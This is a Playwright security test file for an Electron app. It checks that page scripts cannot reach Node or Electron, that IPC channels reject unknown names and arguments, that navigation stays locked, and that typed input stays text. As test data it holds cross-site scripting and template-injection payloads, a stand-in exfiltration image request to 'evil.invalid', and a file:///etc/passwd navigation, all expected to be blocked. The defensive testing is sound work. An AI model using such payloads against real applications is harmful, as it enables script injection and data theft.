import { someOf } from '#tests/e2e/some-of.ts'
import { expect, test } from './fixture.ts'
import { logInAs } from './log-in.ts'
import { clickMenuItem, openedLinks, recordOpenedLinks } from './electron-actions.ts'

// The attacks of these tests log errors, which are expected.
test.use({ expectedErrors: /Content Security Policy|violates|refused|ERR_ABORTED|Not allowed to|Trusted/i })

test('D1: a script in the page reaches neither Node nor Electron, gets no permission, and cannot change what it was given', async ({
  openShared,
}) => {
  const { page } = await openShared()
  const seen = await page.evaluate(() => {
    const scope = globalThis as unknown as Record<string, unknown>
    const names = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'global']
    const isReadOnly = !Reflect.set(scope, 'inplan', {}) && !Reflect.set(window.inplan!, 'invoke', () => 'mine')
    return { types: names.map((name) => typeof scope[name]), isReadOnly, keys: Object.keys(window.inplan!) }
  })
  expect(seen.types).toEqual(Array.from({ length: 7 }, () => 'undefined'))
  expect([seen.isReadOnly, seen.keys]).toEqual([true, ['invoke', 'subscribe']])
  const states = await page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone'] as PermissionName[]
    return Promise.all(names.map(async (name) => (await navigator.permissions.query({ name })).state))
  })
  expect(states).toEqual(['denied', 'denied', 'denied', 'denied'])
})

test('D1: no text becomes code or markup, and nothing is fetched from elsewhere', async ({ openShared }) => {
  const { page } = await openShared()
  const seen = await page.evaluate(async () => {
    const scope = globalThis as unknown as {
      ran?: unknown
      trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
    }
    const violated = new Set<string>()
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
    const make = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag) =>
      document.body.appendChild(document.createElement(tag))
    const attempts: Record<string, () => unknown> = {
      'an inline script': () => (make('script').textContent = 'window.ran = "inline"'),
      'a foreign script': () => (make('script').src = 'https://evil.invalid/a.js'),
      'a frame with markup': () => (make('iframe').srcdoc = '<script>parent.ran = "frame"</script>'),
      'markup with a handler': () => (make('div').innerHTML = '<img src="data:," onerror="window.ran = 1">'),
      'markup beside': () => make('div').insertAdjacentHTML('beforeend', '<b>x</b>'),
      'a handler as text': () => make('img').setAttribute('onerror', 'window.ran = "handler"'),
      // oxlint-disable-next-line typescript/no-implied-eval -- that it fails is the subject
      'a function from text': () => new Function('return 1')(),
      // oxlint-disable-next-line typescript/no-implied-eval -- that it fails is the subject
      'a timer from text': () => setTimeout('window.ran = "timer"'),
      'a policy of its own': () => scope.trustedTypes.createPolicy('mine', { createHTML: String }),
    }
    const taken: string[] = []
    // The attempts run in a separate task, because code that Playwright evaluates has more permissions.
    await new Promise<void>((resolve) => {
      setTimeout(() => {
        for (const [name, attempt] of Object.entries(attempts)) {
          try {
            attempt()
            taken.push(name)
          } catch {
            // The attempt is expected to fail.
          }
        }
        resolve()
      })
    })
    make('img').src = 'https://evil.invalid/?stolen'
    make('style').textContent = 'body { color: red }'
    const link = make('a')
    link.href = 'javascript:window.ran = "link"'
    link.click()
    const reached = await fetch('https://evil.invalid/').then(
      () => 'reached',
      () => 'refused',
    )
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
    return { taken, ran: scope.ran, reached, violated: [...violated] }
  })
  expect(seen.taken).toEqual([])
  expect([seen.ran, seen.reached]).toEqual([undefined, 'refused'])
  expect(seen.violated).toEqual(
    expect.arrayContaining([
      'connect-src',
      'img-src',
      'require-trusted-types-for',
      'script-src-elem',
      'style-src-elem',
      'trusted-types',
    ]),
  )
})

test('D2: only named channels pass, and only with arguments that fit', async ({ openShared }) => {
  const { page } = await openShared()
  const seen = await page.evaluate(async () => {
    const inplan = window.inplan!
    const attempt = async (...args: Parameters<typeof inplan.invoke>) => {
      try {
        const answer = await inplan.invoke(...args)
        return answer.ok ? 'taken' : answer.error.code
      } catch (error) {
        return (error as Error).message
      }
    }
    const hear = (event: string) => {
      try {
        inplan.subscribe(event, () => {})
        return 'heard'
      } catch (error) {
        return (error as Error).message
      }
    }
    return [
      await attempt('app.info', []),
      await attempt('app.quit', []),
      await attempt('electron-store-get-data', []),
      await attempt('app.info', ['extra']),
      await attempt('api.call', ['login', { body: {} }, {}]),
      await attempt('api.call', ['https://evil.invalid/', {}, {}]),
      hear('changed'),
      hear('electron-store-data'),
      typeof inplan.subscribe('changed', () => {})(),
    ]
  })
  expect(seen).toEqual([
    'taken',
    'app.quit is no channel',
    'electron-store-get-data is no channel',
    'malformed-request',
    'malformed-request',
    'malformed-request',
    'heard',
    'electron-store-data is no event',
    'undefined',
  ])
})

test('D3: the page cannot be led away and opens no window; plain links open outside', async ({ openShared }) => {
  const { electron, page } = await openShared()
  await recordOpenedLinks(electron)
  const address = page.url()
  const stillHere = () => page.evaluate(() => typeof (globalThis as unknown as { inplan: unknown }).inplan)
  for (const target of ['https://evil.invalid/', 'file:///etc/passwd', 'data:text/html,x', 'app://evil/index.html']) {
    await page.evaluate((url) => {
      location.href = url
    }, target)
    expect(await stillHere(), target).toBe('object')
  }
  for (const target of [
    'https://example.invalid/help',
    'file:///etc/passwd',
    'javascript:1',
    'https://a@evil.invalid/',
  ]) {
    expect(await page.evaluate((url) => window.open(url), target), target).toBeNull()
  }
  await expect.poll(() => openedLinks(electron)).toEqual(['https://example.invalid/help'])
  expect(page.url()).toBe(address)
  await expect.poll(() => electron.windows().length).toBe(1)
})

const payloads = [
  '<img src=x onerror="window.ran = 1">',
  '"><script>window.ran = 1</script>',
  'javascript:window.ran=1',
  '{{constructor.constructor("window.ran = 1")()}}',
  '${window.ran = 1}',
  '<svg onload=window.ran=1>',
]

const screens = ['go-bookings', 'act-new-service', 'act-new-location', 'act-new-availability', 'act-new-package']

test('D1: what is typed into any text field of any screen stays text', async ({ openShared }) => {
  const { electron, page } = await openShared()
  const fillAll = async () => {
    const editable = ':enabled:not([readonly]):visible'
    const kinds = ['input:not([type])', 'input[type="text"]', 'input[type="search"]', 'input[type="email"]', 'textarea']
    const fields = page.locator(kinds.map((kind) => `${kind}${editable}`).join(', '))
    let done = 0
    // The fields are counted again after each one, because typing can add and remove fields.
    for (; done < (await fields.count()); done++) {
      await fields.nth(done).fill(payloads[done % payloads.length] ?? '')
      await page.keyboard.press('Tab')
    }
    return done
  }
  let filled = await fillAll()
  await logInAs(page, 'owner')
  for (const act of someOf(screens, 0, 1, 3)) {
    await clickMenuItem(electron, act)
    if (act.startsWith('act')) await expect(page.getByRole('dialog').first()).toBeVisible()
    else await expect(page.locator('#content input').first()).toBeVisible()
    filled += await fillAll()
    // A changed form asks before it is closed, so the page is reloaded instead.
    await page.reload()
    await expect(page.locator('#content')).toBeVisible()
  }
  expect(filled).toBeGreaterThan(10)
  const seen = await page.evaluate(() => {
    const scope = globalThis as unknown as Record<string, unknown>
    return [scope['ran'], typeof scope['require'], typeof scope['process']]
  })
  expect(seen).toEqual([undefined, 'undefined', 'undefined'])
})
